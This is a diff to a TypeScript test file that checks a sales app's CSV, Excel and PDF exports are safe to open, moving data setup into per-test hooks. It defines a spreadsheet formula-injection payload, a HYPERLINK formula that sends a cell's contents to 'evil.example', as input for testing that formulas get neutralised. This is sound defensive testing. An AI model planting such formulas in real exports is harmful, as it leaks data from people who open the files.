@@ -1,17 +1,21 @@
 // Issue 18 point 4: exports are safe to open. Line breaks stay inside their cell, formulas are
 // neutralised in CSV while negative amounts stay numbers, sheet names are valid, amounts carry
 // their currency, and the PDF prints any name, its page numbers and its filters.
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { sql } from 'kysely';
 import { saveSettings } from '../../db/settings.ts';
 import { startApi, type Client, type TestApi } from '../../../test/helpers/api.ts';
+import { deleteAllRecords, keepSettings } from '../../../test/helpers/database.ts';
 import { pdfText, pdfTextItems } from '../../../test/helpers/pdf-text.ts';
 
 let api: TestApi;
 let manager: Client;
 let token: string;
+let restoreSettings: () => Promise<void>;
+// downloads still running, e.g. after a test timed out: awaited before the next test's data is built
+const downloads = new Set<Promise<unknown>>();
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")';
 
@@ -19,6 +23,11 @@ beforeAll(async () => {
   api = await startApi();
   manager = await api.as('manager', 'Łukasz Wałęsa');
   token = (await manager.post('/api/auth/tokens', { name: 'export test' })).body.token;
+});
+afterAll(() => api.close());
+// every test exports the same five deals and leaves no records or settings behind
+beforeEach(async () => {
+  restoreSettings = await keepSettings(api.database.db);
   const companyId = (await manager.post('/api/companies', { name: 'Ærø Færger A/S' })).body.id;
   const other = (await manager.post('/api/companies', { name: 'Göran Östlund AB' })).body.id;
   const deals = [
@@ -31,10 +40,16 @@ beforeAll(async () => {
   for (const deal of deals) expect((await manager.post('/api/opportunities', deal)).status).toBe(201);
   await saveSettings(api.database.db, { companyName: 'Nord/Syd [Salg]: Hvem? *Alle* \\ og Ærø ApS' });
 });
-afterAll(() => api.close());
+afterEach(async () => {
+  await Promise.allSettled([...downloads]);
+  await restoreSettings();
+  await deleteAllRecords(api.database.db);
+});
 
 const download = async (url: string) => {
-  const response = await api.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${token}` } });
+  const pending = api.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${token}` } });
+  downloads.add(pending);
+  const response = await pending.finally(() => downloads.delete(pending));
   expect(response.statusCode, url).toBe(200);
   return response.rawPayload;
 };
